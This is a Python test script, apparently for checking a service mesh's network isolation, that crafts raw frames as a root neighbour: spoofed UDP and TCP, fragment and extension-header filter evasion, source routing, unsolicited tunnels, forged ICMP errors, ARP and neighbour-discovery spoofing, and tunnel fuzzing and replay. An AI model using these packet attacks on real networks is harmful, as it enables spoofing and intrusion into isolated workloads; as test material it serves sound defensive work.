"""Thirty attacks by a neighbour on the underlay: root on another machine of the same network, who may
send any frame. FACTS names the victim, its mesh and its services."""

import os
import select
import socket
import struct
import time

from craft import FACTS, ask, attack, get, icmp, ip, packed, run_all, tcp, udp, udp_segment

VICTIM4, VICTIM6 = FACTS["victim"]
WEB4, WEB6 = FACTS["web"]  # workloads of the victim's
STATS4, STATS6 = FACTS["stats"]
REMOTE4, REMOTE6 = FACTS["remote"]  # another host's workload
VIRTUAL4, VIRTUAL6 = FACTS["virtual"]
ME4, ME6 = FACTS["me"]
PEER4 = FACTS["peer"]  # another host's underlay address
MESH6 = FACTS["mesh6"]
WEB, STATS, LEDGER = 8080, 8125, 9100
UDP = socket.SOCK_DGRAM

WIRE = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
WIRE.bind(("eth0", 0))
MAC = WIRE.getsockname()[4]
VICTIM_MAC = bytes.fromhex(FACTS["mac"].replace(":", ""))


def send(*packets, to=VICTIM_MAC):
    for packet in packets:
        kind = 0x86DD if packet[0] >> 4 == 6 else 0x0800
        WIRE.send(to + MAC + struct.pack("!H", kind) + packet)


def mcast(address):
    """The frame's destination of a multicast packet."""
    return b"\x33\x33" + packed(address)[-4:]


# By ordinary sockets: the overlay is routed to the victim's underlay address.


@attack(bites=True)
def connect_to_a_workload_by_ipv4(token):
    """Opens the web service at its overlay address, on the wire."""
    return [ask(WEB4, WEB, get(token))]


@attack(bites=True)
def connect_to_a_workload_by_ipv6(token):
    """Likewise by IPv6."""
    return [ask(WEB6, WEB, get(token))]


@attack()
def connect_to_a_virtual_address_by_ipv4(token):
    """Opens the service's virtual address, as if the victim routed for the mesh."""
    return [ask(VIRTUAL4, WEB, get(token))]


@attack()
def connect_to_a_virtual_address_by_ipv6(token):
    """Likewise by IPv6."""
    return [ask(VIRTUAL6, WEB, get(token))]


@attack(bites=True)
def datagram_to_a_workload_by_ipv4(token):
    """Sends a datagram to a UDP service at its overlay address."""
    return [ask(STATS4, STATS, token, kind=UDP)]


@attack(bites=True)
def datagram_to_a_workload_by_ipv6(token):
    """Likewise by IPv6."""
    return [ask(STATS6, STATS, token, kind=UDP)]


@attack()
def the_proxys_port(token):
    """Speaks to the proxy on the underlay and at overlay addresses, with an identity of its choice."""
    return [ask(place, 15001, get(token)) for place in (VICTIM4, VICTIM6, WEB4, WEB6, VIRTUAL4)]


@attack()
def names_of_the_mesh(token):
    """Asks the victim's DNS, which is for the overlay, for a name of the mesh."""
    name = b"".join(bytes([len(it)]) + it for it in b"web.prod.mesh.internal".split(b"."))
    query = b"\x12\x34\x01\x00\0\1\0\0\0\0\0\0" + name + b"\0\0\1\0\1"
    return [ask(place, 53, query, kind=UDP) for place in (VICTIM4, VICTIM6, WEB4)]


@attack()
def the_agents_metrics(token):
    """Reads the agent's metrics from outside."""
    return [ask(place, 9464, b"GET /metrics HTTP/1.1\r\nhost: a\r\n\r\n") for place in (VICTIM4, WEB4)]


@attack(bites=True)
def ping_the_overlay(token):
    """Pings overlay addresses, to see which the victim has."""
    send(icmp(ME4, WEB4, 8, 0, 1, token), icmp(ME6, WEB6, 128, 0, 1, token))
    return echoes()


# By forged packets. Their answers, if any, would go elsewhere: what counts is who hears them.


@attack(bites=True)
def speak_as_a_workload_to_the_overlay_by_ipv4(token):
    """A datagram from another host's workload to a workload, in the clear."""
    send(udp(REMOTE4, STATS4, 7001, STATS, token))


@attack(bites=True)
def speak_as_a_workload_to_the_overlay_by_ipv6(token):
    """Likewise by IPv6."""
    send(udp(REMOTE6, STATS6, 7001, STATS, token))


@attack(bites=True)
def speak_as_a_workload_to_the_underlay_by_ipv4(token):
    """A datagram from another host's workload to the victim's own address, where the same program listens."""
    send(udp(REMOTE4, VICTIM4, 7002, STATS, token))


@attack(bites=True)
def speak_as_a_workload_to_the_underlay_by_ipv6(token):
    """Likewise by IPv6."""
    send(udp(REMOTE6, VICTIM6, 7002, STATS, token))


@attack(bites=True)
def speak_as_the_victim_itself(token):
    """From one workload of the victim's to another: such packets never come from outside."""
    send(udp(WEB4, STATS4, 7003, STATS, token), udp(WEB6, STATS6, 7003, STATS, token))


@attack(bites=True)
def speak_as_a_virtual_address(token):
    """From a service's virtual address, by which the agent itself shows callers of the same host."""
    send(udp(VIRTUAL4, STATS4, 7004, STATS, token), udp(VIRTUAL6, VICTIM6, 7004, STATS, token))


@attack()
def speak_as_loopback(token):
    """From 127.0.0.1 and ::1, whom programs trust."""
    send(udp("127.0.0.1", STATS4, 7005, STATS, token), udp("::1", STATS6, 7005, STATS, token))


@attack(bites=True)
def in_fragments(token):
    """A forged datagram in fragments, of which only the first has ports."""
    whole = udp_segment(REMOTE4, VICTIM4, 7006, STATS, token.ljust(64, b"."))
    send(
        ip(REMOTE4, VICTIM4, 17, whole[:32], fragment=0x2000),
        ip(REMOTE4, VICTIM4, 17, whole[32:], fragment=4),
    )


@attack(bites=True)
def in_ipv6_fragments(token):
    """Likewise by IPv6, with a fragment header."""
    whole = udp_segment(REMOTE6, VICTIM6, 7006, STATS, token.ljust(64, b"."))
    first, second = struct.pack("!BxHI", 17, 1, 9), struct.pack("!BxHI", 17, 32, 9)
    send(ip(REMOTE6, VICTIM6, 44, first + whole[:32]), ip(REMOTE6, VICTIM6, 44, second + whole[32:]))


@attack(bites=True)
def behind_extension_headers(token):
    """A forged datagram behind destination options, which a filter that looks for ports may pass over."""
    options = struct.pack("!BBBB4x", 17, 0, 1, 4)
    send(ip(REMOTE6, VICTIM6, 60, options + udp_segment(REMOTE6, VICTIM6, 7007, STATS, token)))


@attack()
def by_source_routes(token):
    """To the victim's own address, with the overlay's as the next stop (LSRR, and a routing header)."""
    lsrr = b"\x83\x07\x04" + packed(STATS4) + b"\0"
    segment = udp_segment(ME4, STATS4, 7008, STATS, token)
    send(ip(ME4, VICTIM4, 17, segment, options=lsrr))
    for kind in (0, 2, 4):
        routing = struct.pack("!BBBBI", 17, 2, kind, 1, 0) + packed(STATS6)
        send(ip(ME6, VICTIM6, 43, routing + udp_segment(ME6, STATS6, 7008, STATS, token)))


@attack()
def inside_of_tunnels_that_nobody_made(token):
    """A forged packet inside of IPIP, 6in4 and GRE."""
    inner4, inner6 = udp(REMOTE4, STATS4, 7009, STATS, token), udp(REMOTE6, STATS6, 7009, STATS, token)
    gre = struct.pack("!HH", 0, 0x0800) + inner4
    send(ip(ME4, VICTIM4, 4, inner4), ip(ME4, VICTIM4, 41, inner6), ip(ME4, VICTIM4, 47, gre))
    send(ip(ME6, VICTIM6, 41, inner6), ip(ME6, VICTIM6, 4, inner4))


@attack(bites=True)
def to_everybody(token):
    """A forged datagram to broadcast and multicast addresses."""
    send(udp(REMOTE4, "255.255.255.255", 7010, STATS, token), to=b"\xff" * 6)
    send(udp(REMOTE6, "ff02::1", 7010, STATS, token), to=mcast("ff02::1"))


@attack()
def through_the_victim_as_a_router(token):
    """Uses the victim, which forwards for containers, as a way into the overlay."""
    send(udp(ME4, REMOTE4, 7011, STATS, token), udp(ME6, REMOTE6, 7011, STATS, token))
    send(udp(WEB4, REMOTE4, 7011, STATS, token), udp(WEB6, REMOTE6, 7011, STATS, token))
    middle = [tcp(*pair, LEDGER, LEDGER, 0x18, 9, 9, token) for pair in ((WEB4, REMOTE4), (WEB6, REMOTE6))]
    send(*middle)


@attack()
def half_a_connection(token):
    """Opens a connection as another host's workload, blindly, and sends in the middle of others."""
    for source, target in ((REMOTE4, VICTIM4), (REMOTE6, VICTIM6), (REMOTE4, WEB4), (REMOTE6, WEB6)):
        send(tcp(source, target, 7012, LEDGER, 0x02, data=token))
        send(tcp(source, target, 7012, LEDGER, 0x18, 2, 1, token), tcp(source, target, 7012, LEDGER, 0x04))


@attack()
def errors_about_flows_of_the_overlay(token):
    """Says of a datagram that the victim sent on the overlay that nobody was there."""
    quoted4, quoted6 = udp(STATS4, REMOTE4, 7776, STATS, b""), udp(STATS6, REMOTE6, 7776, STATS, b"")
    send(icmp(ME4, VICTIM4, 3, 3, 0, quoted4), icmp(ME6, VICTIM6, 1, 4, 0, quoted6))


@attack()
def small_packets_only(token):
    """Says that packets to the overlay are too big, so that they become small for ever."""
    quoted4 = udp(STATS4, REMOTE4, 7776, STATS, b"." * 1300)[:528]
    quoted6 = udp(STATS6, REMOTE6, 7776, STATS, b"." * 1300)[:1000]
    send(icmp(ME4, VICTIM4, 3, 4, 600, quoted4), icmp(ME6, VICTIM6, 2, 0, 1280, quoted6))
    gateway = struct.unpack("!I", packed(ME4))[0]
    send(icmp(ME4, VICTIM4, 5, 1, gateway, quoted4))


@attack()
def owner_of_overlay_addresses(token):
    """Claims by ARP and neighbour discovery that overlay addresses are here."""
    for address in (REMOTE4, VIRTUAL4):
        arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + MAC + packed(address) + VICTIM_MAC + packed(VICTIM4)
        WIRE.send(VICTIM_MAC + MAC + b"\x08\x06" + arp)
    for address in (REMOTE6, VIRTUAL6):
        claim = packed(address) + b"\x02\x01" + MAC
        advertised = icmp(ME6, VICTIM6, 136, 0, 0x60000000, claim)
        send(advertised[:7] + b"\xff" + advertised[8:])


@attack()
def garbage_for_the_tunnels(token):
    """Throws noise of every message's kind and size at the tunnels' port, also as another host."""
    for source in (ME4, PEER4):
        for kind in (0, 1, 2, 3, 4, 0x40):
            for size in (0, 1, 16, 32, 64, 92, 148, 1400):
                noise = bytes([kind]) + b"\0" * 3 + os.urandom(size)
                send(udp(source, VICTIM4, 51820, 51820, noise))


@attack()
def replayed_tunnel_packets(token):
    """Sends again what was recorded of the tunnels, as it was and with a bit changed."""
    for text in FACTS["recorded"]:
        frame = bytes.fromhex(text)
        WIRE.send(frame)
        WIRE.send(frame[:-20] + bytes([frame[-20] ^ 1]) + frame[-19:])


def echoes():
    """Echo replies from overlay addresses, of which there should be none."""
    found = []
    until = time.monotonic() + 0.5
    while time.monotonic() < until:
        if not select.select([WIRE], [], [], 0.1)[0]:
            continue
        frame = WIRE.recv(2048)
        for source, at, kind, reply in ((WEB4, 26, 34, 0), (WEB6, 22, 54, 129)):
            address = packed(source)
            if frame[at : at + len(address)] == address and frame[kind] == reply:
                found.append(f"an echo from {source}")
    return found


run_all()
